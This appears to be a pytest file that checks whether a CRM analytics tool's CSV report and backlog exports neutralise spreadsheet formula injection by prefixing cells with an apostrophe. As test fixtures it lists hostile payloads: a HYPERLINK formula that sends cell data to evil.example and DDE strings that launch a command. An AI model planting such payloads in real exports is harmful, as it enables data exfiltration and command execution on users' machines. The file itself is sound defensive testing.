"""CSV exports open safely in a spreadsheet: no cell from the CRM or a person is a formula.

A CRM value or a comment that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
read by Excel and LibreOffice as a formula (OWASP "CSV injection"); `report --format csv` and
the backlog export prefix such cells with an apostrophe, and leave numbers as numbers.
"""

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session, sessionmaker

from worker.analytics.backlog import BacklogItem, render_backlog
from worker.analytics.history import generate
from worker.cli import main
from worker.config import load_config
from worker.store.models import Account

EXAMPLE = Path(__file__).resolve().parents[2] / "config.example.yaml"
NOW = datetime(2025, 12, 31, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formulas(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_START) and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_report_csv_neutralises_crm_values(
    sessions: sessionmaker[Session], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Account names and segment values that look like formulas are written as text."""
    config = load_config(EXAMPLE, env={})
    with sessions() as session, session.begin():
        generate(session, config, answers=400, start=datetime(2025, 1, 1, tzinfo=UTC), now=NOW)
    with sessions() as session, session.begin():
        ids = list(session.scalars(select(Account.id).order_by(Account.id)))
        for index, account_id in enumerate(ids):
            hostile = HOSTILE[index % len(HOSTILE)]
            session.execute(
                update(Account)
                .where(Account.id == account_id)
                .values(name=f"{hostile} #{index}", fields={"Industry": hostile})
            )
    bind = sessions.kw["bind"]
    config_file = tmp_path / "config.yaml"
    url = bind.url.render_as_string(hide_password=False).replace("%", "%%")
    config_file.write_text(f"database:\n  url: '{url}'\ncrm:\n  kind: salesforce\n")

    assert main(["report", "--config", str(config_file), "--format", "csv"]) == 0
    out = capsys.readouterr().out

    assert HOSTILE[0].replace('"', '""') in out, "the account slices must be in the export"
    assert _formulas(out) == []
    negative = [row for row in csv.DictReader(io.StringIO(out)) if row["value"].startswith("-")]
    assert negative, "negative figures (an NPS below zero, a lower bound) stay numbers"
    assert all(_number(row["value"]) for row in negative)


def test_backlog_csv_neutralises_every_text_cell() -> None:
    """Titles, owners and touchpoints named after CRM or config values stay text."""
    items = [
        BacklogItem(
            rank=n + 1,
            theme=hostile,
            title=hostile,
            kind="quick_fix",
            owner=hostile,
            due=date(2026, 1, 31),
            metric="detractor_share",
            baseline=-1.5,
            target=0.0,
            focus=hostile,
            priority=-0.25,
            mentions=3,
            low_n=False,
            definition_of_done=hostile,
        )
        for n, hostile in enumerate(HOSTILE)
    ]
    text = render_backlog(items, "csv")
    assert _formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["title"] for row in rows] == ["'" + hostile for hostile in HOSTILE]
    assert {row["baseline"] for row in rows} == {"-1.5"}
